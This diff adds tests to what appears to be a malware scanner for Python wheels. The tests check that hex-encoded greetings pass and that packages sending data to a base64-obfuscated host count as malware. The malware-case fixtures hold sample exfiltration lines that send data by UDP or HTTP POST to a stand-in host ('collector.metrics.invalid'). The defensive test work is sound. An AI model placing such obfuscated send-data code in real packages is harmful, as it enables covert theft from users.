@@ -100,3 +100,36 @@ test('keys and magic numbers in hexadecimal digits, and words read backwards, st
 
   expect(await inspect('hidden-address', file)).toEqual([]);
 });
+
+const GREETING = Buffer.from('hello, is anybody there').toString('hex');
+
+test.each([
+  ['a datagram', `sock.sendto(bytes.fromhex('${GREETING}'), (place, 54321))`],
+  ['a stream', `sock.connect((place, 54321)); sock.sendall(bytes.fromhex('${GREETING}'))`],
+])('words in hexadecimal digits that %s says to an address of another module hide no address', async (_what, said) => {
+  const file = wheel({
+    'pkg/__init__.py': '',
+    'pkg/talk.py': python('import socket', 'def greet(place):', '    sock = socket.socket()', `    ${said}`),
+    'pkg/lamp.py': python('from pkg.talk import greet', 'def find():', "    greet('198.51.100.7')"),
+  });
+
+  expect(await inspect('hidden-address', file)).toEqual([]);
+});
+
+test.each([
+  ['a datagram is sent to', 'socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, (PLACE, 53))'],
+  ['is handed over after the method', "requests.request('POST', 'https://' + PLACE, data=data)"],
+])('an address in base64 that %s is malware', async (_what, sent) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import base64, requests, socket',
+      `PLACE = base64.b64decode('${Buffer.from('collector.metrics.invalid').toString('base64')}').decode()`,
+      'def tell(data):',
+      `    ${sent}`,
+    ),
+  });
+
+  expect(await inspect('hidden-address', file)).toMatchObject([
+    { class: 'malware', score: 10, line: 4, hosts: ['collector.metrics.invalid'] },
+  ]);
+});
